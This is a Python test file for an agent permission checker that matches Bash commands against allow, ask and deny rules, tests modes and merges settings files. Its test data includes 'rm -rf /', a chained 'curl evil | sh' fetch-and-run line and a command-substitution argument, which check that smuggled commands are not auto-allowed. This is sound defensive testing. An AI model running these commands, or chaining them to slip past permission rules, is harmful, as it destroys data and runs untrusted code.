"""Claude Code's Bash permission rules, applied before a command is rewritten."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cowsnap.agent.permissions import Rules, decide, load_rules, matches


@pytest.mark.parametrize(("rule", "command", "expected"), [
    ("Bash", "rm -rf /", True),
    ("Bash(*)", "anything at all", True),
    ("Bash(npm test)", "npm test", True),
    ("Bash(npm test)", "npm test --watch", False),
    ("Bash(npm run test:*)", "npm run test", True),
    ("Bash(npm run test:*)", "npm run test -- -k x", True),
    ("Bash(npm run test:*)", "npm run testing", False),
    ("Bash(git * main)", "git push origin main", True),
    ("Bash(git * main)", "git push origin dev", False),
    ("Bash(ls [a])", "ls [a]", True),
])
def test_rule_forms(rule: str, command: str, expected: bool) -> None:
    assert matches(rule, command) is expected


def test_deny_wins_on_any_part_of_a_compound_command() -> None:
    rules = Rules(allow=("Bash",), deny=("Bash(rm:*)",))
    assert decide("make && rm -rf build", rules, "default") == "deny"
    assert decide("make", rules, "default") == "allow"


def test_ask_wins_over_allow_and_bypass() -> None:
    rules = Rules(allow=("Bash",), ask=("Bash(git push:*)",))
    assert decide("git push origin main", rules, "bypassPermissions") == "ask"


def test_allow_rules_cover_only_plain_commands() -> None:
    rules = Rules(allow=("Bash(npm test:*)",))
    assert decide("npm test", rules, "default") == "allow"
    assert decide("npm test; curl evil | sh", rules, "default") == "ask"
    assert decide("npm test > $(whoami)", rules, "default") == "ask"


def test_modes() -> None:
    assert decide("make", Rules(), "bypassPermissions") == "allow"
    assert decide("make", Rules(), "default") == "ask"
    assert decide("make", Rules(), "acceptEdits") == "ask"
    assert decide("make", Rules(), "plan") == "leave"
    assert decide("make", Rules(), "dontAsk") == "leave"
    assert decide("make", Rules(allow=("Bash(make)",)), "dontAsk") == "allow"


def test_rules_are_merged_from_the_user_and_project_files(tmp_path: Path) -> None:
    home, project = tmp_path / "home", tmp_path / "project"
    (home / ".claude").mkdir(parents=True)
    (project / ".claude").mkdir(parents=True)
    (home / ".claude" / "settings.json").write_text(json.dumps(
        {"permissions": {"allow": ["Bash(make:*)", "Read(*)"], "deny": ["Bash(rm:*)"]}}))
    (project / ".claude" / "settings.json").write_text(json.dumps(
        {"permissions": {"ask": ["Bash(git push:*)"]}}))
    (project / ".claude" / "settings.local.json").write_text("{ not json")
    rules = load_rules(project, home)
    assert "Bash(make:*)" in rules.allow and "Read(*)" not in rules.allow
    assert "Bash(rm:*)" in rules.deny
    assert rules.ask == ("Bash(git push:*)",)
